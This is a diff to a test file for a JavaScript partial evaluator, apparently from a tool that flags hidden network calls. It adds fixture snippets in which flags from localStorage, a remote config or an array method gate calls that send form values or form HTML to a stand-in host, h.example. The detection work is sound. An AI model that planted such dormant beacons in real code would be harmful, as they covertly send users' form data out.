@@ -133,6 +133,21 @@ const CASES: { name: string; source: string; has: string[]; not?: string[] }[] =
       document.addEventListener('change',function(ev){if(p.ready){fetch('https://h.example/p?'+ev.target.value)}})`,
     has: ["fetch('https://h.example/p?'+ev.target.value)"],
   },
+  {
+    name: 'an object merged with data from storage is unknown after the merge',
+    source: `var o={armed:false};Object.assign(o,JSON.parse(localStorage.x||'{}'));if(o.armed){fetch('https://h.example/m')}`,
+    has: ["fetch('https://h.example/m')"],
+  },
+  {
+    name: 'an object handed to a library function is unknown after the call',
+    source: `var cfg={on:0,to:''};$.extend(cfg,window.remoteConfig);if(cfg.on){navigator.sendBeacon('https://h.example/x',document.forms[0].innerHTML)}`,
+    has: ["navigator.sendBeacon('https://h.example/x'"],
+  },
+  {
+    name: 'an array changed by a method the evaluator does not model is unknown after it',
+    source: `var f=[0,0];f.fill(1);if(f[0]){fetch('https://h.example/f')}`,
+    has: ["fetch('https://h.example/f')"],
+  },
 ]
 
 describe('partial evaluator', () => {
